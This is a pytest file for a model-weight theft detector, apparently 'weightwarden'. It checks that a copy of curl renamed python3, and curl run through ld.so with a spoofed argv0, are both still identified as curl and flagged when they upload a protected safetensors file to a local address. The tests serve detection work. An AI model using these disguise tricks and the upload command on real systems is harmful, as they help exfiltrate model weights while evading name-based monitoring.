"""A process is named by what it runs, with real processes through the real AccessSensor and the real detection
rules: a copy of curl renamed `python3`, and curl run through the dynamic loader, both opening a protected
model as an ordinary user (nobody)."""

from __future__ import annotations

import hashlib
import os
import shutil
import stat
import subprocess
from pathlib import Path

import pytest

from tests.agent.sensors.conftest import Collected, wait_for
from tests.conftest import write_safetensors
from weightwarden.agent.detect.engine import DetectSettings
from weightwarden.agent.detect.policy import Detector, load_policy_rules
from weightwarden.agent.events import ModelFile, utc_now
from weightwarden.agent.inventory import Inventory
from weightwarden.agent.pipeline.activity_events import access_event
from weightwarden.agent.sensors.access import AccessObservation, AccessSensor

pytestmark = pytest.mark.root

LDSO = "/lib64/ld-linux-x86-64.so.2"
NOBODY = 65534


def sha256(path: str) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def reachable_by_nobody(path: Path) -> None:
    """Let an ordinary user through the test's private folders to the files (pytest makes them 0700)."""
    for folder in [path, *path.parents]:
        if folder == Path("/"):
            break
        mode = folder.stat().st_mode
        folder.chmod(mode | stat.S_IXOTH | (stat.S_IROTH if folder == path else 0))


@pytest.fixture
def curl() -> str:
    found = shutil.which("curl")
    if found is None:
        pytest.skip("curl is not installed")
    return os.path.realpath(found)


def run_as_nobody(argv: list[str]) -> int:
    done = subprocess.run(argv, user=NOBODY, group=NOBODY, extra_groups=[], stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL, timeout=30, check=False)
    return done.returncode


def reads_by_nobody(collected: Collected, count: int) -> list[AccessObservation]:
    def found() -> list[AccessObservation] | None:
        reads = [o for o in collected.access("read") if o.process.user == "nobody"]
        return reads if len(reads) >= count else None
    return wait_for(found, timeout=15, what=f"{count} reads by nobody")


def test_renamed_curl_and_curl_through_ld_so_are_curl(access_sensor: AccessSensor, collected: Collected,
                                                       tmp_path: Path, curl: str) -> None:
    if not os.path.exists(LDSO):
        pytest.skip(f"no {LDSO} here")
    model = write_safetensors(tmp_path / "models" / "llama" / "model.safetensors", rows=1024)
    disguised = tmp_path / "x" / "python3"
    disguised.parent.mkdir()
    shutil.copy2(curl, disguised)
    for path in (model.parent, disguised.parent):
        reachable_by_nobody(path)
    model.chmod(0o644)
    access_sensor.protect([str(model)])
    assert access_sensor.marked
    upload = ["-s", "-T", str(model), "http://127.0.0.1:1/up"]  # refused: curl opens the model first
    run_as_nobody([str(disguised), *upload])
    run_as_nobody([LDSO, "--argv0", "python3", curl, *upload])
    reads = reads_by_nobody(collected, 2)
    assert len(reads) == 2, reads
    disguised_read = next(o for o in reads if o.process.executable == str(disguised))
    loaded_read = next(o for o in reads if o.process.executable != str(disguised))

    # the renamed copy: called python3, it is curl by content; and no interpreter, whatever its name
    process = disguised_read.process
    assert process.name == "python3"
    assert process.program == str(disguised)
    assert process.executable_sha256 == process.program_sha256 == sha256(curl)
    assert process.interpreter is None and process.script is None
    # through the loader: the executable is ld.so, the real program is curl
    process = loaded_read.process
    assert process.executable == os.path.realpath(LDSO)
    assert process.executable_sha256 == sha256(os.path.realpath(LDSO))
    assert process.program == curl and process.program_sha256 == sha256(curl)

    # the real rules, as the agent runs them: both are the transfer tool curl; the renamed copy, outside the
    # system folders, is an unknown binary too (its name python3 exempts nothing)
    st = model.stat()
    inventory = Inventory([ModelFile(str(model), "safetensors", st.st_size, "llama", device=st.st_dev,
                                     inode=st.st_ino)])
    for observation, expected in ((disguised_read, {"transfer-tool-sent-model", "unknown-binary-opened-model"}),
                                  (loaded_read, {"transfer-tool-sent-model"})):
        detector = Detector(load_policy_rules(), DetectSettings(), canaries=lambda: ())  # one incident each
        alerts = detector.process(access_event(observation, inventory, utc_now()))
        assert {a.rule_id for a in alerts} == expected, [a.message for a in alerts]
        (transfer,) = [a for a in alerts if a.rule_id == "transfer-tool-sent-model"]
        evidence = transfer.evidence.to_dict()
        assert evidence["transfer"]["tool"] == "curl", evidence
        assert evidence["transfer"]["destination"] == "http://127.0.0.1:1/up"


def test_executables_are_hashed_once(access_sensor: AccessSensor, collected: Collected, tmp_path: Path,
                                     curl: str) -> None:
    """The identity cache is keyed by (device, inode, mtime, size): a second run of the same binary is not
    read again."""
    model = write_safetensors(tmp_path / "m" / "model.safetensors", rows=64)
    access_sensor.protect([str(model)])
    for _ in range(3):
        subprocess.run(["cat", str(model)], stdout=subprocess.DEVNULL, check=True, timeout=30)
    reads = wait_for(lambda: [o for o in collected.access("read") if o.process.name == "cat"][2:] or None,
                     timeout=15, what="three reads by cat")
    assert reads
    # (a cat gone before the proc connector's news of its exec was handled is named by its comm alone)
    cats = [o for o in collected.access("read") if o.process.name == "cat" and o.process.executable]
    assert cats
    assert {o.process.executable_sha256 for o in cats} == {sha256(os.path.realpath(shutil.which("cat") or "cat"))}
    hashes = access_sensor.cache.hashes
    before = hashes.hashed
    assert hashes.identify(os.path.realpath(shutil.which("cat") or "cat")) is not None
    assert hashes.hashed == before  # cached: not read again
